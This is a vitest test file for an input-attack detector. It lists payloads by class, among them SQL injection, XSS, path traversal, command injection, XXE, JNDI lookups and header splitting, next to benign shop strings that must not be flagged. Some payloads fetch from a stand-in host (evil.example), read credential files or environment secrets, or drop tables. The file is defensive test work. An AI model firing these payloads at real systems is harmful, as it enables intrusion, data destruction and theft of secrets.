import { readFileSync } from 'node:fs'
import path from 'node:path'

import { corpus } from '@shop/testkit'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { detect } from './detector.ts'
import type { AttackClass } from './finding.ts'

const attacks: Readonly<Record<AttackClass, readonly string[]>> = {
  'sql-injection': [
    "' or 1=1--",
    "admin'--",
    "admin') or ('1'='1",
    '" or "a"="a',
    '1 and 1=2',
    '1) or (1=1',
    '-1 union all select null,null,concat(user,0x3a,pass) from users',
    "x'; drop table orders; --",
    '1; exec xp_cmdshell "dir"',
    "1' and sleep(5)#",
    "'||(select password from users limit 1)||'",
    "1' order by 4-- ",
    'un/**/ion sel/**/ect 1,2',
    '1/*!50000union*/select 2',
    "1' waitfor delay '0:0:5'--",
    'if(1=1,sleep(3),0)',
    "' and ascii(substring(database(),1,1))>64#",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    '" autofocus onfocus="alert(1)',
    "';alert(document.cookie)//",
    'javascript:alert(1)',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="x">',
    '<div style="width:expr/**/ession(alert(1))">',
    'top["al"+"ert"](1)',
    '<scr\0ipt>alert(1)</scr\0ipt>',
  ],
  'path-traversal': [
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '....//....//etc/hosts',
    '..;/admin',
    '/etc/shadow',
    'c:\\windows\\system32\\config\\sam',
    'php://filter/resource=index.php',
    'file:///etc/passwd',
    '/WEB-INF/web.xml',
    '\\\\host\\c$\\users',
  ],
  'command-injection': [
    '; cat /etc/passwd',
    '|id',
    '`whoami`',
    '$(curl http://evil.example)',
    "; c'a't /etc/passwd",
    ';cat$IFS/etc/passwd',
    '& ping -n 5 127.0.0.1 &',
    '() { :;}; /bin/bash -c id',
    '<?php system("id"); ?>',
    '<!--#exec cmd="ls" -->',
    '\nwget http://evil.example/x',
  ],
  'nosql-injection': [
    '{"$gt": ""}',
    'user[$ne]=1',
    "'; return true; var x='",
    "' || '1'=='1",
    'db.users.drop()',
    "true, $where: '1 == 1'",
  ],
  'template-injection': [
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    "{{''.__class__.__mro__}}",
    '${T(java.lang.Runtime).getRuntime()}',
    '{% import os %}',
    '#set($x=$y.class)',
    '{{config.items()}}',
  ],
  'xml-entity': [
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    '<xi:include href="http://evil.example/"/>',
  ],
  'jndi-lookup': [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:rmi://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://x}',
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}',
    'x ${env:AWS_SECRET_ACCESS_KEY} y',
  ],
  'ldap-injection': ['*)(uid=*))(|(uid=*', 'admin)(&)', '(|(uid=*)(cn=*))', 'userPassword:2.5.13.18:=123'],
  'header-splitting': [
    'x%0d%0aSet-Cookie:a=b',
    'x\r\nSet-Cookie: a=b',
    '%0d%0a%0d%0a<b>hello</b>',
    'x%E5%98%8A%E5%98%8DSet-Cookie:a=b',
    'x%0aBcc:everybody@example.com',
    '\nRCPT TO: <a@example.com>\n',
  ],
}

const natural: readonly string[] = [
  "Anna O'Brien",
  "D'Arcy & Sons",
  'AT&T',
  'select the best from our union of flavours',
  'drop table lamp',
  '1=1 deal',
  'Buy 1 and get 1 free',
  `5' 10"`,
  `MATS 5" BY 7"`,
  `16" or 18" necklace`,
  'rock \'n\' roll and "something" else',
  'Where is the order by date?',
  'union jack; select sizes only',
  'I like having true friends',
  '"foo" AND "bar"',
  "it's 4' or 5' long",
  'x = 3 and y = 4',
  'JavaScript: The Good Parts',
  'JavaScript: The Definitive Guide (7th Edition)',
  'I <3 this shop',
  '<b>Great</b> value<br /><br />Would buy again',
  'See <a href="https://shop.example/p/1?a=b&c=d">this</a>',
  'the alert(s) came late',
  'confirm(ed) by phone',
  'wait... what?',
  'and/or',
  'Mon-Fri 9-5; Sat 10-4',
  'cats & dogs | birds',
  'dog; cat; mouse',
  'salt, sort of; more or less',
  'cut & paste',
  'R&D',
  'Hello {{first_name}}',
  '${price}',
  'C:\\',
  'http://shop.example/a/b?c=d&e=f#g',
  'anna.o-brien+shop@example.co.uk',
  'Dear team,\nFrom: Anna\nTo: Bob\nSubject: order\n\nThanks',
  ':) (:',
  '(a*b)(c*d)',
  '100 % cotton',
  '50%26%2339%3Bs',
  '1/4"-1" WIDE RIBBON',
  'size 7/8; length 3/4',
  '$10 or $20',
  '* * * * *',
  '#1 Mom',
  "'#1 Mom' mug",
  'C++ or C#',
  '2 + 2 = 4',
  '--',
  '...',
  '24-7-TEAM',
  '<enter type here>',
  'echo in the mirror',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
]

describe('detect', () => {
  for (const [kind, values] of Object.entries(attacks)) {
    it.each(values)(`finds ${kind} in %j`, (value) => {
      expect(detect(value)).toBeDefined()
    })
  }

  it.each(natural)('leaves %j alone', (value) => {
    expect(detect(value)).toBeUndefined()
  })

  it('names the class, the span, the layer and the decoded form', () => {
    const found = detect('%2527%2520or%25201%253D1--')!
    expect(found).toMatchObject({ class: 'sql-injection', layer: 2, form: "' or 1=1--" })
    expect(found.form.slice(found.start, found.end)).toContain('or 1=1')
  })

  it('undoes three layers of encoding, mixed ones too, and no more', () => {
    const once = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27')
    const attack = '<script>alert(1)</script>'
    expect(detect(once(once(once(attack))))?.layer).toBe(3)
    expect(detect(once('&#60;iframe&#62;'))?.layer).toBe(2)
    expect(detect(String.raw`\u003ciframe\u003e`)?.layer).toBe(1)
    expect(detect('+ADw-iframe+AD4-')?.layer).toBe(1)
    expect(detect('%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc')?.class).toBe('path-traversal')
    expect(detect('＜iframe＞')?.layer).toBe(1)
    expect(detect(once(once(once(once('<b onclick=alert(1)>')))))).toBeUndefined()
  })

  it('reads what is JSON by its texts and keys', () => {
    expect(detect(JSON.stringify({ a: [{ b: '" or "1"="1' }] }))?.class).toBe('sql-injection')
    expect(detect('{"age":{"$gt":1}}')?.class).toBe('nosql-injection')
    expect(detect(JSON.stringify({ name: "O'Brien", note: 'and or' }))).toBeUndefined()
  })

  it('has a verdict for every text, never an exception', () => {
    const alphabet = fc.constantFrom(
      ...`'"\`<>()[]{};:=&%$#@!/\\|*+-.,~^?_ \t\r\n\0aoeijnsx012\ud800\udfff\uff1c\u00a0`,
      ' or ',
      'union select',
      '${',
      '{{',
      '%2',
      '&#',
      '\\u',
      '/*',
      '*/',
      '--',
      '../',
      'script',
      'on',
      '://',
    )
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 80 }), (parts) => void detect(parts.join(''))),
      { numRuns: 1_000 },
    )
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => void detect(text)),
      { numRuns: 1_000 },
    )
  })

  it('gives spans inside the form it names', () => {
    for (const value of Object.values(attacks).flat()) {
      const found = detect(value)!
      expect(found.start).toBeGreaterThanOrEqual(0)
      expect(found.end).toBeGreaterThanOrEqual(found.start)
      expect(found.end).toBeLessThanOrEqual(found.form.length + 3)
    }
  })

  it('answers for every naughty string', () => {
    const strings = JSON.parse(readFileSync(path.join(corpus('attacks'), 'naughty-strings.json'), 'utf8')) as string[]
    for (const text of strings) detect(text)
    expect(strings.length).toBeGreaterThan(500)
  })

  it('keeps what it found in the development corpus, and keeps silent on its natural values', () => {
    const rows = readFileSync(path.join(corpus('attacks'), 'development.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { label: string; category: string; value: string })
    const share = (chosen: typeof rows): number => chosen.filter(({ value }) => detect(value)).length / chosen.length
    expect(share(rows.filter(({ label }) => label === 'attack'))).toBeGreaterThan(0.985)
    expect(share(rows.filter(({ category }) => category === 'natural'))).toBe(0)
    expect(share(rows.filter(({ category }) => category === 'tricky'))).toBeLessThan(0.02)
  })
})
